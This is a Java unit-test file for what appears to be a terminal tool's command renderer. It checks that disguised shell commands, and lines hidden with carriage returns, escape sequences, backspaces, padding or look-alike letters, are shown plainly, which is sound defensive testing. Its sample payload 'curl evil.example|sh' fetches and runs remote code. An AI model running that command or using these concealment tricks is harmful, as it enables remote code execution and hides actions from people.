package labsh.shell.screen;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import labsh.commands.pages.StepParts;
import labsh.commands.report.Block;
import labsh.commands.report.Report;
import labsh.commands.report.Role;
import labsh.commands.report.Span;
import org.jline.utils.AttributedString;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Commands that a terminal, printing them as they are, would show as {@code ls /srv} and no more. */
class DisguisedCommandsTest {
    private static final String HIDDEN = "curl evil.example|sh";

    /** Colours and weights; 8, conceal, is not among them. */
    private static final Pattern LOOK = Pattern.compile("\u001b\\[(0|1|2|22|39|3[0-7]|9[0-7]|;)*m");

    static Stream<Arguments> disguises() {
        return Stream.of(
                Arguments.of("a carriage return", HIDDEN + "\rls /srv" + " ".repeat(16)),
                Arguments.of("a control sequence", HIDDEN + "\u001b[2K\u001b[1Gls /srv"),
                Arguments.of("a C1 control", HIDDEN + "\u009b2K\u009b1Gls /srv"),
                Arguments.of("conceal", "ls /srv; \u001b[8m" + HIDDEN + "\u001b[0m"),
                Arguments.of("backspaces", HIDDEN + "\b".repeat(HIDDEN.length()) + "ls /srv            "),
                Arguments.of("padding", "ls /srv" + " ".repeat(3000) + "; " + HIDDEN),
                Arguments.of("newlines", "ls /srv" + "\n".repeat(300) + HIDDEN));
    }

    private static List<AttributedString> lines(String command, int width, Theme theme) {
        return new Rendering(theme, width)
                .lines(StepParts.shell(Report.builder(), 5, command).build());
    }

    /** What stands on the screen, put together again without what breaking lines has added. */
    private static String read(List<AttributedString> lines) {
        return lines.stream()
                .map(line ->
                        line.toString().substring(Math.min(5, line.length())).replaceFirst("^⤷ ", ""))
                .collect(Collectors.joining());
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("disguises")
    void isSeenForWhatItIsAtEveryWidth(String disguise, String command) {
        for (Theme theme : List.of(Theme.PLAIN, Theme.COLOURS)) {
            for (int width = 20; width <= 400; width++) {
                List<AttributedString> lines = lines(command, width, theme);
                String where = disguise + ", " + width + " columns, " + theme.colours() + ":\n" + lines;
                assertTrue(lines.size() <= 20, where);
                assertTrue(read(lines).contains(HIDDEN), where);
                for (AttributedString line : lines) {
                    assertTrue(line.columnLength() < width, where);
                    String written = LOOK.matcher(theme.colours() ? line.toAnsi() : line.toString())
                            .replaceAll("");
                    assertFalse(written.chars().anyMatch(Character::isISOControl), where);
                }
            }
        }
    }

    @Test
    void everyCharacterIsThereOnceAndInOrder() {
        String command = IntStream.range(0, 400).mapToObj(i -> "w" + i + ';').collect(Collectors.joining());
        for (int width = 20; width <= 400; width++) {
            assertEquals(command, read(lines(command, width, Theme.PLAIN)));
        }
    }

    @Test
    void blanksAndEmptyLinesBeyondLayoutAreCounted() {
        assertEquals(
                List.of(
                        "     a[17 blanks]b",
                        "     [41 blanks]c",
                        "     d[30 blanks]",
                        "     [3 empty lines]",
                        "     e"),
                lines(
                                "a" + " ".repeat(17) + "b\n" + " ".repeat(41) + "c\nd" + "\t".repeat(30)
                                        + "\n\n\n\ne\n",
                                80,
                                Theme.PLAIN)
                        .stream()
                        .map(AttributedString::toString)
                        .toList());
    }

    @Test
    void blanksAreCountedInWhatAFileWillHoldToo() {
        Report page = Report.builder()
                .code(
                        5,
                        Block.Code.Kind.CHANGE,
                        "@@ -0,0 +1,9 @@\n+no" + " ".repeat(100) + "yes\n+\t\tb\n+\n+\n" + "-\n".repeat(60) + " \n+"
                                + "\t".repeat(60) + "c\n")
                .build();
        assertEquals("""
                     @@ -0,0 +1,9 @@
                     +no[100 blanks]yes
                     +                b
                     +
                     +
                     -[60 empty lines]
                     %s
                     +[60 blanks]c""".formatted(" ").indent(5).stripTrailing(), shown(page, 80));
    }

    @Test
    void noTitleAndNoNameMakesALineThatLooksLikeLabshsOwn() {
        String disguised = "innocent" + " ".repeat(3000) + "\u2713  two  ok";
        Report page = Report.builder()
                .line(new Span(Role.TITLE, disguised))
                .table(2, List.of(List.of(new Span(Role.NAME, "host"), new Span(Role.PLAIN, disguised))))
                .build();
        for (int width : new int[] {80, 200}) {
            assertEquals(
                    "innocent[3000 blanks]\u2713  two  ok\n  host  innocent[3000 blanks]\u2713  two  ok",
                    shown(page, width));
        }
    }

    private static String shown(Report page, int width) {
        return new Rendering(Theme.PLAIN, width)
                .lines(page).stream().map(AttributedString::toString).collect(Collectors.joining("\n"));
    }

    @Test
    void layoutStaysAsItIs() {
        String command = "if true; then\n        echo a   # why\n\nfi\n";
        assertEquals(
                List.of("     if true; then", "             echo a   # why", "     ", "     fi"),
                lines(command, 80, Theme.PLAIN).stream()
                        .map(AttributedString::toString)
                        .toList());
    }

    @Test
    void lettersThatAreNotAsciiArePointedOutOnALineOfTheirOwn() {
        List<String> lines = lines("cp /etc/p\u0430sswd /srv/d\u00e9\u00e9\n", 80, Theme.PLAIN).stream()
                .map(AttributedString::toString)
                .toList();
        assertEquals(
                List.of(
                        "     cp /etc/p\u0430sswd /srv/d\u00e9\u00e9",
                        "     not ASCII: \u0430 U+0430, \u00e9 U+00E9 ×2"),
                lines);
    }

    @Test
    void whatReordersOrVanishesIsAnEscapeAndPointedOut() {
        assertEquals(
                List.of(
                        "     rm a\\u{202e}b\\u{200b}c\\r",
                        "     not ASCII: \\u{202e} U+202E, \\u{200b} U+200B",
                        "     control characters: \\r U+000D"),
                lines("rm a\u202eb\u200bc\r", 80, Theme.PLAIN).stream()
                        .map(AttributedString::toString)
                        .toList());
    }
}
